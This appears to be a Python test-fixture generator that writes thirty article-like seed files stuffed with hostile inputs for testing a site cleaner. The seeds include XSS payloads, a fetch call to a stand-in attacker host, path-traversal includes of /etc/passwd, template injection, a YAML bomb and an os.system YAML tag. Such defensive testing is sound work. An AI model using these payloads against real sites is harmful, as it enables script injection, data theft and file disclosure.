"""Thirty hostile seeds that look like articles, so that a cleaner keeps what is dangerous in them.

`write(folder)` lays them out; `python -m tests.attack.make FOLDER` does the same by hand. A page made from them has
been attacked with success when a script has set `window.FLAG`, a dialog opened or a request went to another host.
This file only writes seeds; what is expected of a site made from them stands in the tests beside it.
"""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Callable
from pathlib import Path

FLAG = "dossierOwned"  # a script that runs sets window.dossierOwned
HOST = "attack.example.com"  # nothing may ever be asked of it
RUN = f"window.{FLAG}=1;fetch('https://{HOST}/x')"
SECRET = "root:x:0:0"  # how a file that an include must not reach begins

_WHO = ("The harbor master", "A retired teacher", "The council's clerk", "One of the divers", "The museum's keeper")
_DID = ("counted", "repaired", "measured", "painted", "described", "collected", "sorted", "carried", "weighed", "drew")
_WHAT = ("old maps", "wet ropes", "brass lamps", "paper boats", "clay pots", "fishing nets", "wooden chairs", "letters")
_WHERE = ("by the river", "behind the mill", "near the station", "under the bridge", "on the hill", "at the market")
_WHEN = ("before sunrise", "all through the winter", "on a rainy Tuesday", "after the parade", "during the long strike")
_WHY = (
    "because nobody else had offered to",
    "as the town had asked",
    "although the money was short",
    "for a small fee",
)
_THEN = (
    "and told the paper about it",
    "and went home late",
    "while two neighbors looked on",
    "to everybody's surprise",
)


def prose(number: int, sentences: int = 3) -> str:
    """A harmless paragraph, another one for each number."""
    dice = random.Random(number)
    parts = (_WHO, _DID, _WHAT, _WHERE, _WHEN, _WHY, _THEN)
    return " ".join(" ".join(dice.choice(part) for part in parts) + f" {number}." for _ in range(sentences))


def text(number: int, title: str, *hostile: str) -> str:
    """A plain-text article with the hostile lines between its paragraphs."""
    paragraphs = [title, f"By Nobody Inparticular {number}", prose(number * 10)]
    for place, line in enumerate(hostile):
        paragraphs += [f"{prose(number * 10 + place + 1, 1)} {line} {prose(number * 10 + place + 5, 1)}", line]
    return "\n\n".join([*paragraphs, prose(number * 10 + 9), ""])


def page(number: int, title: str, head: str, *hostile: str) -> str:
    """An HTML article with the hostile markup between and inside its paragraphs."""
    body = "".join(f"<p>{prose(number * 10 + i, 2)} {h}</p>\n{h}\n" for i, h in enumerate(hostile))
    last = f"<p>{prose(number * 10 + 8)}</p><p>{prose(number * 10 + 9)}</p>"
    return (
        f"<html><head><title>{title}</title>{head}</head><body><article><h1>{title}</h1>{body}{last}</article></body>"
    )


def told(number: int, matter: str, title: str = "A quiet day") -> str:
    """Plain text with front matter."""
    return f"---\n{matter}\n---\n{text(number, title, 'nothing to see')}"


def _bomb() -> str:
    levels = "\n".join(f"{name}: &{name} [{', '.join(['*' + below] * 9)}]" for below, name in zip("abcdefg", "bcdefgh"))
    return f"a: &a [lol, lol, lol]\n{levels}\ntitle: *h"


def _entities(code: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in code)


def seeds() -> dict[str, bytes]:
    """File name to content. The names say what is tried."""
    script = f"<script>{RUN}</script>"
    image = f'<img src="x" onerror="{RUN}">'
    lies = {"title": script, "outlet": f'"><{image}', "authors": [f"[x](javascript:{RUN})"]}  # JSON is YAML
    made: dict[str, str] = {
        "01_script.txt": text(1, f"A title {script}", script, f"<SCRIPT SRC=//{HOST}/a.js></SCRIPT>"),
        "02_handlers.txt": text(2, f"Handlers {image}", image, f'<div onmouseover="{RUN}" style="inset:0">x</div>'),
        "03_javascript_links.txt": text(
            3, "Links", f"[press](javascript:{RUN})", f"[x]: javascript:{RUN}", f"<javascript:{RUN}>", f"[go][x] {RUN}"
        ),
        "04_attribute_lists.txt": text(
            4, "Lists {: onclick=alert(1) }", f'a word {{: onclick="{RUN}" .x #y }}', f'{{: onmouseover="{RUN}" }}'
        ),
        "05_includes.txt": text(
            5,
            "Includes",
            '--8<-- "/etc/passwd"',
            '--8<-- "../../etc/passwd"',
            '-8<- "mkdocs.yml"',
            "--8<--\nabout.md\n--8<--",
        ),
        "06_fences.txt": text(6, "Fences", "---", "title: another page\n---", "```python\nprint(1)\n```", "~~~ {.x}"),
        "07_templates.txt": text(7, "{{ config }} {% raw %}", "{{ 7*7 }} {% include 'x' %}", "{{ config.__class__ }}"),
        "08_closing_tags.txt": text(
            8, "</title></textarea>", f"</textarea>{script}", f"</style>{script}", f"</article></main>{script}"
        ),
        "09_svg.txt": text(
            9, "Pictures", f'<svg onload="{RUN}">', f'<svg><a xlink:href="javascript:{RUN}">x</a></svg>'
        ),
        "10_refresh.txt": text(
            10, "Moved", f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">', "<base href=//x>"
        ),
        "11_data_urls.txt": text(
            11,
            "Data",
            f"[a](data:text/html,{script})",
            f"![b](data:image/svg+xml,<svg onload='{RUN}'>)",
            "data:text/html,x",
        ),
        "12_outside_images.txt": text(
            12,
            "Images",
            f"![pixel](https://{HOST}/p.gif)",
            f"![p][q] [q]: https://{HOST}/q.gif",
            f"<img src=//{HOST}/r>",
        ),
        "13_comments.txt": text(
            13, "Comments", f"--> {script} <!--", f"<!-- --!> {script}", "<!-- dossier seal 0000 -->"
        ),
        "14_overrides.txt": text(
            14,
            "\u202egnp.exe\u202c and \u2066more",
            "the file \u202efdp.\u202c",
            "zero\u200bwidth\u2060joiners\ufeff here",
        ),
        "15_path_titles.txt": text(15, "../../../../var/owned", "../../etc/passwd", "C:\\Windows\\con.txt"),
        "16_front_matter_paths.txt": told(
            16, 'title: "../../index"\nslug: "../../../index"\noutlet: "../../../outlet"\nauthors: ["../../x"]'
        ),
        "17_yaml_bomb.txt": told(17, _bomb()),
        "18_yaml_tags.txt": told(18, "title: !!python/object/apply:os.system ['touch owned']\ndate: !!timestamp 2011"),
        "19_address.txt": told(
            19, f'address: "javascript:{RUN}"\narchived: "data:text/html,{script}"\nimage: "https://{HOST}/i.png"'
        ),
        "20_long_words.txt": text(
            20, "L" + "o" * 3000 + "ng", "w" * 20000, "*" * 5000, "[" * 3000, "#" * 500, "> " * 2000
        ),
        "21_emoji_and_marks.txt": text(
            21,
            "👩‍👩‍👧‍👦 says hi",
            "z" + "\u0335\u0336" * 200,
            "مرحبا بالعالم",
            "𝕳𝖊𝖑𝖑𝖔 🏴\U000e0067\U000e007f",
            "\ud7ff\uffff",
        ),
        "22_formulas.txt": text(
            22,
            "\\(x\\)",
            f"\\(\\href{{javascript:{RUN}}}{{x}}\\)",
            f"$$\\require{{html}}\\style{{x}}$$ {RUN}",
            "`` ` ``",
        ),
        "23_css.txt": text(
            23,
            "Style",
            f"<style>@import url(https://{HOST}/c.css);</style>",
            f'<p style="background:url(//{HOST}/b)">x</p>',
        ),
        "24_frames_and_forms.txt": text(
            24,
            "Frames",
            f"<iframe srcdoc='{script}'></iframe>",
            f'<form action="https://{HOST}/"><input autofocus onfocus="{RUN}">',
        ),
        "25_coded.txt": text(
            25,
            _entities(script),
            _entities(script),
            f"&lt;script&gt;{RUN}&lt;/script&gt;",
            f"[x](&#106;avascript&#58;{RUN})",
        ),
        "26_page.html": page(
            26,
            f"Page &lt;script&gt;{RUN}&lt;/script&gt;",
            f'{script}<base href="https://{HOST}/"><meta name="author" content="&lt;img src=x onerror={RUN}&gt;">',
            script,
            image,
            f'<a href="javascript:{RUN}">press</a>',
            f"&lt;script&gt;{RUN}&lt;/script&gt;",
        ),
        "27_metadata.html": page(
            27,
            "Data that lies",
            '<script type="application/ld+json">{"@type":"NewsArticle","headline":"</scr' + "ipt>" + script + '","url":'
            f'"javascript:{RUN}","author":{{"name":"{{{{ 7*7 }}}}"}},"datePublished":"2011-02-31"}}</script>'
            f'<meta property="og:title" content="--&gt;{_entities(script)}">'
            f'<meta property="og:url" content="https://{HOST}/&quot; onmouseover=&quot;{RUN}">',
            "<p>plain</p>",
            "<noscript><p title='</noscript>" + image + "'></noscript>",
        ),
        "28_structure.txt": text(
            28,
            "# Heading | with | pipes",
            "| a | b |\n|---|---|\n| c | d |",
            "1. one",
            "- two",
            '!!! note "x"\n    y',
            "??? danger",
            "[^1]: footnote",
            "*[HTML]: abbreviation",
            "Term\n:   definition",
            '=== "tab"',
            "    code",
        ),
        "29_sidecar.txt": text(29, "The sidecar lies", "nothing here"),
        "29_sidecar.yml": json.dumps(lies),
    }
    files = {name: content.encode("utf-8", "surrogatepass") for name, content in made.items()}
    files["30_nulls.txt"] = text(
        30, "Nulls\x00 and bells\x07", "<scr\x00ipt>" + RUN + "</scr\x00ipt>", "a\x1bb\x0cc"
    ).encode()
    return files


def write(folder: Path, choose: Callable[[str], bool] = lambda name: True) -> int:
    """Lays the seeds out in `folder`; how many files were written."""
    folder.mkdir(parents=True, exist_ok=True)
    chosen = {name: data for name, data in seeds().items() if choose(name)}
    for name, data in chosen.items():
        (folder / name).write_bytes(data)
    return len(chosen)


if __name__ == "__main__":
    print(write(Path(sys.argv[1])), "files")
